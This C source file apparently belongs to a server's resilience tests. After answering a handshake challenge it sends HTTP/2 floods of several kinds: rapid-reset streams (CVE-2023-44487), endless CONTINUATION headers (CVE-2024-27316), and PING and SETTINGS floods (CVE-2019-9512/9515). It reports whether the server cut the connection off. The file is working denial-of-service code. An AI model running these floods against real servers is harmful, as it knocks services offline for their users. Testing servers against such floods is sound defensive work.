/* Floods of HTTP/2 frames, after the challenge has been answered. Each ends when
 * it is cut off, or after `count` frames. */
#include "http2.h"
#include <fcntl.h>

static int flood_fd;
static unsigned long sent;

/* Says how it ended; 0 where it was cut off. */
static int done(const char *how) {
  dprintf(1, "%s %lu\n", how, sent);
  return 0;
}

/* Writes all of it, and reads what comes meanwhile: a flood that reads nothing
 * stops by itself. 1: cut off, or stuck for a second. */
static int push(const void *bytes, size_t length) {
  static char drain[65536];
  for (size_t out = 0; out < length;) {
    struct pollfd wait = {.fd = flood_fd, .events = POLLIN | POLLOUT};
    if (poll(&wait, 1, 1000) <= 0) return 1;
    if (wait.revents & POLLIN && read(flood_fd, drain, sizeof drain) <= 0) return 1;
    if (wait.revents & (POLLERR | POLLHUP)) return 1;
    if (!(wait.revents & POLLOUT)) continue;
    ssize_t n = send(flood_fd, (const char *)bytes + out, length - out, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n < 0 && errno != EAGAIN) return 1;
    if (n > 0) out += n;
  }
  return 0;
}

/* CVE-2023-44487: requests that are taken back at once. */
static int reset(unsigned long count) {
  uint8_t block[512], out[1024];
  size_t b = headers(block, "/jsi.v1.Agent/RequestCredential");
  for (uint32_t stream = 1; sent < count; stream += 2, sent++) {
    size_t o = frame(out, HEADERS, END_HEADERS, stream, block, b);
    o += frame(out + o, RST_STREAM, 0, stream, "\0\0\0\10", 4);
    if (push(out, o)) return done("CUT OFF");
  }
  return done("SENT");
}

/* CVE-2024-27316 and its like: headers that never end. */
static int continuation(unsigned long count) {
  uint8_t block[512], out[1024];
  size_t b = headers(block, "/jsi.v1.Agent/RequestCredential");
  if (push(out, frame(out, HEADERS, 0, 1, block, b))) return done("CUT OFF");
  for (; sent < count; sent++) {
    b = header(block, "x-more", "0123456789012345678901234567890123456789");
    if (push(out, frame(out, 9, 0, 1, block, b))) return done("CUT OFF");
  }
  return done("SENT");
}

/* CVE-2019-9512 and CVE-2019-9515: frames that each want an answer. */
static int asking(int type, unsigned long count) {
  uint8_t out[9 * 64 + 8 * 64];
  while (sent < count) {
    size_t o = 0;
    for (int i = 0; i < 32; i++)
      o += frame(out + o, type, 0, 0, "ABCDEFGH", type == PING ? 8 : 0);
    if (push(out, o)) return done("CUT OFF");
    sent += 32;
  }
  return done("SENT");
}

int main(int argc, char **argv) {
  if (argc != 5) return 2;
  unsigned long count = strtoul(argv[4], NULL, 10);
  flood_fd = connected(argv[2]);
  if (hello(flood_fd) || answer_challenge(flood_fd)) fail("challenge");
  dprintf(1, "FLOODING\n");
  if (!strcmp(argv[1], "reset")) return reset(count);
  if (!strcmp(argv[1], "continuation")) return continuation(count);
  if (!strcmp(argv[1], "ping")) return asking(PING, count);
  if (!strcmp(argv[1], "settings")) return asking(SETTINGS, count);
  return 2;
}
